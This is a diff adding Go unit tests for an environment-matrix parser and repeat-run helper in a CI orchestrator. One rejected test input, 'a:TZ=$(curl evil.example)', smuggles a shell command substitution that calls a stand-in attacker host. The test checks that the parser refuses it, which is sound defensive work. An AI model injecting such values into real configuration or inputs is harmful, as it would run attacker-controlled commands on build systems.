@@ -0,0 +1,84 @@
+package orchestrator
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestParseEnvMatrix(t *testing.T) {
+	variants, err := ParseEnvMatrix("ru:TZ=Europe/Moscow,LANG=ru_RU.UTF-8; cn:TZ=Asia/Shanghai")
+	require.NoError(t, err)
+	require.Len(t, variants, 2)
+
+	assert.Equal(t, "ru", variants[0].Name)
+	assert.Equal(t, map[string]string{"TZ": "Europe/Moscow", "LANG": "ru_RU.UTF-8"}, variants[0].Env)
+	assert.Equal(t, "cn", variants[1].Name)
+	assert.Equal(t, map[string]string{"TZ": "Asia/Shanghai"}, variants[1].Env)
+
+	// Round-trips through the workflow input format with sorted keys
+	assert.Equal(t, "ru:LANG=ru_RU.UTF-8,TZ=Europe/Moscow;cn:TZ=Asia/Shanghai", encodeEnvMatrix(variants))
+}
+
+func TestParseEnvMatrixSpecial(t *testing.T) {
+	variants, err := ParseEnvMatrix("")
+	require.NoError(t, err)
+	assert.Empty(t, variants)
+
+	variants, err = ParseEnvMatrix("default")
+	require.NoError(t, err)
+	assert.Equal(t, DefaultLocaleMatrix, variants)
+
+	// The CI preset is crossed with the locales instead of appended
+	variants, err = ParseEnvMatrix("default;ci")
+	require.NoError(t, err)
+	require.Len(t, variants, len(DefaultLocaleMatrix)*len(CIEnvMatrix))
+	assert.Equal(t, "en-us_no-ci", variants[0].Name)
+	assert.Equal(t, "ru-ru_ci", variants[3].Name)
+	assert.Equal(t, "Europe/Moscow", variants[3].Env["TZ"])
+	assert.Equal(t, "true", variants[3].Env["CI"])
+	assert.NotContains(t, variants[2].Env, "CI")
+	assert.Empty(t, DefaultLocaleMatrix[1].Env["CI"], "presets are not modified")
+
+	// Order doesn't matter and custom entries are crossed too
+	variants, err = ParseEnvMatrix("ci;ru:TZ=Europe/Moscow")
+	require.NoError(t, err)
+	require.Len(t, variants, 2)
+	assert.Equal(t, map[string]string{"TZ": "Europe/Moscow"}, variants[0].Env)
+	assert.Equal(t, "ru_ci", variants[1].Name)
+	assert.Equal(t, "Europe/Moscow", variants[1].Env["TZ"])
+
+	// Control variant without extra env encodes with an empty assignment list
+	variants, err = ParseEnvMatrix("ci")
+	require.NoError(t, err)
+	assert.Contains(t, encodeEnvMatrix(variants), "no-ci:;ci:")
+	assert.Empty(t, variants[0].Env)
+}
+
+func TestParseEnvMatrixInvalid(t *testing.T) {
+	tests := []string{
+		"TZ=Europe/Moscow",          // missing name
+		"bad name:TZ=UTC",           // invalid name
+		"a:TZ=UTC;a:TZ=Asia/Tokyo",  // duplicate name
+		"ci;ci",                     // duplicate CI axis
+		"a:TZ=UTC;a_ci:TZ=UTC;ci",   // crossed name collides
+		"a:1TZ=UTC",                 // invalid key
+		"a:TZ",                      // missing value
+		"a:TZ=$(curl evil.example)", // shell metacharacters
+	}
+
+	for _, spec := range tests {
+		_, err := ParseEnvMatrix(spec)
+		assert.Error(t, err, spec)
+	}
+}
+
+func TestRepeatRuns(t *testing.T) {
+	assert.Empty(t, RepeatRuns(1))
+	assert.Empty(t, RepeatRuns(0))
+
+	variants := RepeatRuns(3)
+	require.Len(t, variants, 2)
+	assert.Equal(t, "run-2:;run-3:", encodeEnvMatrix(variants))
+}